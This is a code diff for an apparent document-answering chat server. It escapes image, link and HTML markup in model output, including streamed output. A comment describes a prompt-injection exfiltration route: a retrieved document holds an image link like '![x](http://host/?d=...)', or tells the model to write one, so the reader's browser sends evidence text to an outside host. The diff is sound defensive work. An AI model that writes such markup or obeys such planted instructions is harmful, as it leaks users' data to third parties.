@@ -187,9 +187,39 @@ def sources(reply: Answer) -> str:
     return "\n\nSources:\n" + "\n".join(lines) if lines else ""
 
 
+# What turns the model's words into an image, a link or markup in those clients: the model copies
+# document text, and one document's "![x](http://host/?d=...)" (or an instruction to write one) would
+# load an address in the reader's browser, perhaps with words of other evidence in it. Escaped, not
+# removed; [n] citation marks stay as they are (a "[1]: http://..." definition line is escaped too).
+_MODEL_MARKUP = re.compile(r"!\[|\]\(|\]:|<")
+
+
+def defused(text: str) -> str:
+    """``text`` with every image, inline link, link definition and HTML tag start escaped."""
+    return _MODEL_MARKUP.sub(lambda m: m.group(0)[:-1] + "\\" + m.group(0)[-1], text)
+
+
+class Defused:
+    """:func:`defused` over streamed pieces: a piece ending in "!" or "]" is held back until the next
+    shows what follows it (the two halves of "![" may come in two pieces)."""
+
+    def __init__(self) -> None:
+        self.held = ""
+
+    def feed(self, text: str) -> str:
+        text = self.held + text
+        cut = len(text) - 1 if text.endswith(("!", "]")) else len(text)
+        self.held = text[cut:]
+        return defused(text[:cut])
+
+    def flush(self) -> str:
+        out, self.held = self.held, ""
+        return out
+
+
 def content_of(reply: Answer) -> str:
     """What the chat shows: the model's words with their [n] marks (or "not found"), then the sources."""
-    return (reply.raw.strip() or reply.text) + sources(reply)
+    return defused(reply.raw.strip() or reply.text) + sources(reply)
 
 
 class Head:
@@ -262,10 +292,10 @@ async def answer_events(
         first = await anext(texts, None)  # raises before any event: the error handlers answer
         yield head.chunk({"role": "assistant", "content": ""})
         try:
-            trimmed = Trimmed()
+            trimmed, safe = Trimmed(), Defused()
             piece = first
             while piece is not None:
-                text = trimmed.feed(piece)
+                text = safe.feed(trimmed.feed(piece))
                 if text:
                     wrote = True
                     yield head.chunk({"content": text})
@@ -275,8 +305,9 @@ async def answer_events(
             return
     reply = generation.reply
     assert reply is not None  # set when texts() ends
-    if not wrote:  # "not found", or a model that wrote only whitespace: the answer's own text
-        yield head.chunk({"content": reply.text})
+    rest = safe.flush()  # a last "!" or "]"
+    if rest or not wrote:  # not written: "not found", or a model that wrote only whitespace (its own text)
+        yield head.chunk({"content": rest or defused(reply.text)})
     if reply.citations:
         yield head.chunk({"content": sources(reply)})
     yield head.chunk({}, "stop", hopgraph=answer_payload(reply, result, version, evidence))
